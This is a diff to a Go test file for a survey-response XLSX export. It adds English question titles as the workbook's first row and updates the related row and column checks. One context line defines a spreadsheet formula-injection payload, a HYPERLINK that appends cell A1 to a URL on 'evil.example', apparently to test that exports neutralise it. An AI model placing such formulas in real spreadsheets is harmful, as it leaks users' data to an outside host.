@@ -23,6 +23,33 @@ var exportColumns = []string{"response_id", "administration", "submitted_at",
 	"awareness_level", "ees_perf", "ees_union_law", "ees_cooperation", "ees_innovation",
 	"used_outputs", "why_not", "why_not_other", "support_satisfaction", "networking_contacts", "staff_trained", "comments"}
 
+// exportTitles are the question texts of customs_annual.json in English,
+// its default language: the workbook's first row without labels.
+var exportTitles = map[string]string{
+	"awareness_level":      "How would you describe the level of awareness of the Customs programme among the staff of your administration?",
+	"ees_perf":             "To what extent did new common components of the EES improve your operational performance?",
+	"ees_union_law":        "To what extent did new common components of the EES contribute to a coherent implementation of Union customs law?",
+	"ees_cooperation":      "To what extent did new common components of the EES strengthen operational cooperation with other customs administrations?",
+	"ees_innovation":       "To what extent did new common components of the EES help your administration innovate?",
+	"used_outputs":         "Did your administration use a working practice, guideline or recommendation produced by the programme during the year?",
+	"why_not":              "Why did your administration not use any of the programme's outputs?",
+	"why_not_other":        "Please describe the other reason.",
+	"support_satisfaction": "How satisfied are you with the IT support services, from 1 (not at all) to 5 (very satisfied)?",
+	"networking_contacts":  "How often do you contact officials of other administrations you met through the programme?",
+	"staff_trained":        "How many officials of your administration took part in programme training this year?",
+	"comments":             "Do you have any other comments on the programme?",
+}
+
+// titleRow is the workbook's first row over columns: each question's text
+// from titles, nothing over the other columns.
+func titleRow(columns []string, titles map[string]string) []string {
+	row := make([]string, len(columns))
+	for i, col := range columns {
+		row[i] = titles[col]
+	}
+	return row
+}
+
 const injection = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
 
 // exportWorld submits three responses, a minute apart: FR, then BE's second
@@ -203,13 +230,18 @@ func TestExportResponses(t *testing.T) {
 				if err != nil {
 					t.Fatal(err)
 				}
+				// The question texts in English (the default language)
+				// come above the column names.
+				if len(rows) == 0 || !slices.Equal(rows[0], titleRow(exportColumns, exportTitles)) {
+					t.Fatalf("first row %q, want the question texts", rows[:min(1, len(rows))])
+				}
 				// submitted_at is a date cell shown to the second.
 				toSecond := func(cell, who string) bool {
 					return cell == times[who].UTC().Format("2006-01-02T15:04:05Z")
 				}
-				checkRecords(t, rows, tt.want, tt.who, toSecond)
+				checkRecords(t, rows[1:], tt.want, tt.who, toSecond)
 				for i := range tt.want {
-					row := i + 2
+					row := i + 3
 					for _, cell := range []string{"L", "N"} { // support_satisfaction, staff_trained
 						ref := cell + string(rune('0'+row))
 						if typ, _ := f.GetCellType("Responses", ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
@@ -338,8 +370,9 @@ func TestExportResponsesAccess(t *testing.T) {
 			t.Fatalf("empty XLSX export: %v", err)
 		}
 		defer f.Close()
-		if rows, _ := f.GetRows("Responses"); len(rows) != 1 || !slices.Equal(rows[0], exportColumns) {
-			t.Errorf("empty XLSX export: %v", rows)
+		if rows, _ := f.GetRows("Responses"); len(rows) != 2 || !slices.Equal(rows[0], titleRow(exportColumns, exportTitles)) ||
+			!slices.Equal(rows[1], exportColumns) {
+			t.Errorf("empty XLSX export: %q, want the question texts and the column names", rows)
 		}
 	})
 }
@@ -374,7 +407,7 @@ func TestScoresExports(t *testing.T) {
 			t.Errorf("RES 3.2.1 total: %v", r)
 		}
 		// Administrations of 2 and 1 responses are below min_cell_size 5.
-		if r := byLevel["EES overall|Administration: BE"]; r == nil || r[7] != "" || r[18] != "true" {
+		if r := byLevel["EES overall|Administration: BE"]; r == nil || r[7] != "" || r[slices.Index(records[0], "suppressed")] != "true" {
 			t.Errorf("EES overall BE: %v", r)
 		}
 
